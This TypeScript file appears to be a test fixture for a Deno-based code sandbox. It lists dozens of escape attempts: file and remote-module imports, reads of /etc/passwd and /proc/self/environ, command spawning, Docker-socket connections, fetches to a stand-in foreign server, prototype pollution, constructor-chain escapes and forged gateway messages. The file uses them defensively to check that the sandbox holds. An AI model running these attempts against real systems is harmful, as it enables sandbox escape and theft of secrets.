/** What hostile programs try. In a program, `CANARY` is the path of a secret file without its
 * extension, `TARGET` a path to create, `OTHER` a foreign server, `PARENT` the gateway's pid. */

export interface Attempt {
  readonly name: string;
  /** A function body, or modules by path with `main.js` as the entry. */
  readonly program: string | Record<string, string>;
  /** It may end well, because what it does is without power. */
  readonly harmless?: true;
}

const entry = (imports: string): Record<string, string> => ({
  "main.js": `${imports}\nexport default async () => typeof x === "undefined" ? "loaded" : x;`,
});

const STATIC_IMPORTS: readonly Attempt[] = [
  ["text", 'import x from "file://CANARY.txt" with { type: "text" };'],
  ["bytes", 'import x from "file://CANARY.txt" with { type: "bytes" };'],
  ["json", 'import x from "file://CANARY.json" with { type: "json" };'],
  ["module", 'import x from "file://CANARY.ts";'],
  ["wasm", 'import * as x from "file://CANARY.wasm";'],
  ["syntax error", 'import x from "file://CANARY.txt";'],
  ["localhost authority", 'import x from "file://localhostCANARY.ts";'],
  ["upper case scheme", 'import x from "FILE://CANARY.ts";'],
  ["one slash", 'import x from "file:CANARY.ts";'],
  ["encoded", 'import x from "file:///%2e%2e/%2e%2eCANARY.ts";'],
  ["absolute path", 'import x from "CANARY.ts";'],
  ["climbing path", 'import x from "../../../../../../../..CANARY.ts";'],
  ["symlink", 'import x from "file://CANARY-link.ts";'],
  ["re-export", 'export * from "file://CANARY.ts"; import "file://CANARY.ts";'],
  ["npm", 'import x from "npm:is-number@7.0.0";'],
  ["jsr", 'import x from "jsr:@std/path";'],
  ["other host", 'import x from "OTHER/x.js";'],
  ["deno.land", 'import x from "https://deno.land/x.js";'],
  ["esm.sh", 'import x from "https://esm.sh/x";'],
  ["node:fs", 'import * as x from "node:fs";'],
  ["node:fs/promises", 'import * as x from "node:fs/promises";'],
  ["node:child_process", 'import * as x from "node:child_process";'],
  ["node:module", 'import * as x from "node:module";'],
  ["node:net", 'import * as x from "node:net";'],
  ["node:os", 'import * as x from "node:os";'],
  ["node:process", 'import * as x from "node:process";'],
  ["node:sqlite", 'import * as x from "node:sqlite";'],
  ["node:vm", 'import * as x from "node:vm";'],
  ["node:worker_threads", 'import * as x from "node:worker_threads";'],
  ["node:inspector", 'import * as x from "node:inspector";'],
  ["bare built-in", 'import * as x from "fs";'],
  ["ext: module", 'import * as x from "ext:core/ops";'],
  [
    "data: with a file inside",
    "import x from \"data:text/javascript,export {default} from 'file://CANARY.ts'\";",
  ],
  [
    "data: with text inside",
    `import x from "data:text/javascript,${
      encodeURIComponent('import x from "file://').replace("CANARY", "")
    }CANARY.txt${encodeURIComponent('" with { type: "text" }; export default x')}";`,
  ],
].map(([name, imports = ""]) => ({ name: `static import: ${name}`, program: entry(imports) }));

const SPECIFIERS = [
  "file://CANARY.ts",
  "file://CANARY.wasm",
  "npm:is-number@7.0.0",
  "jsr:@std/path",
  "OTHER/x.js",
  "https://deno.land/x.js",
  "node:fs",
  "node:child_process",
  "node:module",
  "node:wasi",
  "node:test",
  "ext:core/mod.js",
  "data:text/javascript,export * from 'file://CANARY.ts'",
  "data:text/javascript,export default await import('file://CANARY.ts')",
  "data:text/javascript,export * from 'node:fs'",
];

const DYNAMIC_IMPORTS: readonly Attempt[] = SPECIFIERS.flatMap((specifier) => {
  const text = JSON.stringify(specifier);
  return [
    { name: `literal import(): ${specifier}`, program: `return await import(${text})` },
    {
      name: `computed import(): ${specifier}`,
      program: `const s = ${text}; return await import(s)`,
    },
    {
      name: `import() in eval: ${specifier}`,
      program: `return await eval(${JSON.stringify(`import(${text})`)})`,
    },
  ];
});

const WITH_ATTRIBUTES: readonly Attempt[] = ["text", "bytes", "json"].map((type) => ({
  name: `literal import() as ${type}`,
  program: `return (await import("file://CANARY.${
    type === "json" ? "json" : "txt"
  }", { with: { type: "${type}" } })).default`,
}));

const ROUNDABOUT: readonly Attempt[] = [
  {
    name: "blob module with a file inside",
    program:
      `const u = URL.createObjectURL(new Blob(["export * from 'file://CANARY.ts'"], { type: "text/javascript" })); return await import(u)`,
  },
  {
    name: "worker",
    program: `new Worker("data:text/javascript,import 'file://CANARY.ts'", { type: "module" })`,
  },
  {
    name: "worker from a saved constructor",
    program: "return new (globalThis['Wor' + 'ker'])('data:,')",
  },
  {
    name: "import.meta.resolve",
    program: "return await (await fetch(import.meta.resolve('file://CANARY.txt'))).text()",
  },
  {
    name: "source map comment",
    program: "return 1\n//# sourceMappingURL=file://CANARY.json",
    harmless: true,
  },
  {
    name: "triple slash reference",
    program: {
      "main.ts": "",
      "main.js": '/// <reference types="file://CANARY.ts" />\nexport default () => 1;',
    },
    harmless: true,
  },
  {
    name: "JSX pragma",
    program: {
      "main.js": "import './a.ts'; export default () => 1;",
      "a.ts":
        '/** @jsxImportSource file://CANARY */\n// @deno-types="file://CANARY.ts"\nexport {};',
    },
    harmless: true,
  },
];

const CALLS: readonly Attempt[] = [
  ...[
    "Deno.readTextFile('CANARY.txt')",
    "Deno.readTextFileSync('CANARY.txt')",
    "Deno.open('CANARY.txt')",
    "Deno.open('CANARY-link.ts')",
    "Deno.stat('CANARY.txt')",
    "Deno.realPath('.')",
    "Deno.readDirSync('/').next()",
    "Deno.readLink('/proc/self/exe')",
    "Deno.readTextFile('/proc/self/environ')",
    "Deno.readTextFile('/proc/self/cmdline')",
    "Deno.readTextFile('/dev/fd/0')",
    "Deno.readTextFile('/etc/passwd')",
    "Deno.writeTextFile('TARGET', 'x')",
    "Deno.create('TARGET')",
    "Deno.mkdir('TARGET')",
    "Deno.symlink('CANARY.txt', 'TARGET')",
    "Deno.link('CANARY.txt', 'TARGET')",
    "Deno.copyFile('CANARY.txt', 'TARGET')",
    "Deno.rename('CANARY.txt', 'TARGET')",
    "Deno.remove('CANARY.txt')",
    "Deno.makeTempFile()",
    "Deno.watchFs('/')",
    "Deno.chdir('/')",
    "new Deno.Command('/usr/bin/touch', { args: ['TARGET'] }).output()",
    "new Deno.Command('/usr/bin/touch', { args: ['TARGET'] }).outputSync()",
    "new Deno.Command('/usr/bin/touch', { args: ['TARGET'] }).spawn()",
    "Deno.spawn('/usr/bin/touch', ['TARGET'])",
    "Deno.run({ cmd: ['/usr/bin/touch', 'TARGET'] })",
    "Deno.dlopen('libc.so.6', {})",
    "new Deno.UnsafePointerView(Deno.UnsafePointer.create(1n)).getInt8()",
    "Deno.kill(PARENT, 'SIGKILL')",
    "process.kill(PARENT, 'SIGKILL')",
    "Deno.hostname()",
    "Deno.networkInterfaces()",
    "Deno.systemMemoryInfo()",
    "Deno.openKv('TARGET')",
    "Deno.listen({ port: 0 })",
    "Deno.listen({ path: 'TARGET', transport: 'unix' })",
    "Deno.serve({ port: 0 }, () => new Response())",
    "Deno.connect({ port: Number(new URL('OTHER').port) })",
    "Deno.connect({ path: '/var/run/docker.sock', transport: 'unix' })",
    "Deno.connectTls({ hostname: 'example.com', port: 443 })",
    "Deno.resolveDns('example.com', 'A')",
    "Deno.createHttpClient({ proxy: { url: 'OTHER' } })",
    "fetch('OTHER/')",
    "fetch('file://CANARY.txt')",
    "fetch('http://localhost:' + new URL('OTHER').port)",
    "fetch('http://[::1]:' + new URL('OTHER').port)",
    "new WebSocket('OTHER'.replace('http', 'ws')).url.missing.property",
    "Deno.permissions.request({ name: 'read' }).then((p) => { if (p.state !== 'granted') throw p.state; })",
    "process.getBuiltinModule('fs')",
    "process.binding('fs')",
    "process.dlopen({}, 'x')",
    "require('fs')",
    "nodeBootstrap()",
    "Deno[Deno.internal].core.ops",
    "Deno[Object.getOwnPropertySymbols(Deno)[0]].core",
    "localStorage.setItem('a', 'b')",
    "sessionStorage.setItem('a', 'b')",
    "caches.open('a')",
    "navigator.gpu.requestAdapter()",
    "new BroadcastChannel('a').postMessage(1)",
    "globalThis.constructor.constructor('return process')().mainModule.require('fs')",
    "Object.getPrototypeOf(process).constructor('return process.binding')()('fs')",
  ].map((call) => ({ name: call, program: `return await ${call}` })),
  {
    name: "environment of the gateway",
    program: "if (Deno.env.get('TOOLSCRIPT_TEST_CANARY')) return 1; throw 0",
  },
  {
    name: "proxy by environment",
    program:
      "Deno.env.set('HTTP_PROXY', 'OTHER'); Deno.env.set('http_proxy', 'OTHER'); return await fetch('http://example.com/')",
  },
  {
    name: "stack frames of trusted code",
    program:
      "Error.prepareStackTrace = (_, sites) => sites; const sites = new Error().stack; for (const s of sites) { const f = s.getFunction?.() ?? s.getThis?.(); if (f) return f.constructor('return process.binding')()('fs'); } throw 0",
  },
];

const TAMPERING: readonly Attempt[] = [
  {
    name: "forged value",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/value', { method: 'POST', body: '\"forged\"' }); await new Promise(() => {})",
    harmless: true,
  },
  {
    name: "value that is no JSON",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/value', { method: 'POST', body: '{' })",
  },
  {
    name: "value too deep for readers",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/value', { method: 'POST', body: '['.repeat(1e5) + ']'.repeat(1e5) })",
  },
  {
    name: "report that is no report",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/report', { method: 'POST', body: '{\"kind\":\"value\",\"value\":{}}' })",
  },
  {
    name: "endless body",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/value', { method: 'POST', body: new ReadableStream({ pull(c) { c.enqueue(new Uint8Array(65536)); } }) })",
  },
  {
    name: "two values",
    program:
      "const u = Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/value'; fetch(u, { method: 'POST', body: '1' }); fetch(u, { method: 'POST', body: '2' }); return 3",
    harmless: true,
  },
  {
    name: "ready again",
    program:
      "await fetch(Deno.env.get('TOOLSCRIPT_GATEWAY_URL') + '/ready', { method: 'POST', body: '1' }); return 1",
    harmless: true,
  },
  {
    name: "polluted prototypes",
    program:
      "Object.prototype.toJSON = () => 'x'; Object.prototype.kind = 'value'; Array.prototype[Symbol.iterator] = null; Object.prototype.__defineGetter__('nonce', () => 1); throw new Error('x')",
  },
  {
    name: "broken built-ins",
    program:
      "JSON.stringify = () => '{}'; globalThis.fetch = () => {}; Promise.prototype.then = () => {}; return 1",
    harmless: true,
  },
  {
    name: "broken text encoder",
    program: "TextEncoder.prototype.encode = () => new Uint8Array(1e6); return 1",
    harmless: true,
  },
  {
    name: "imitated control words",
    program:
      "console.log('\\0end\\0'); Deno.stdout.writeSync(new TextEncoder().encode('\\0'.repeat(1000) + 'exit 0\\0')); throw 0",
  },
  { name: "another signal handler", program: "Deno.addSignalListener('SIGXCPU', () => {})" },
];

export const ATTEMPTS: readonly Attempt[] = [
  ...STATIC_IMPORTS,
  ...DYNAMIC_IMPORTS,
  ...WITH_ATTRIBUTES,
  ...ROUNDABOUT,
  ...CALLS,
  ...TAMPERING,
];
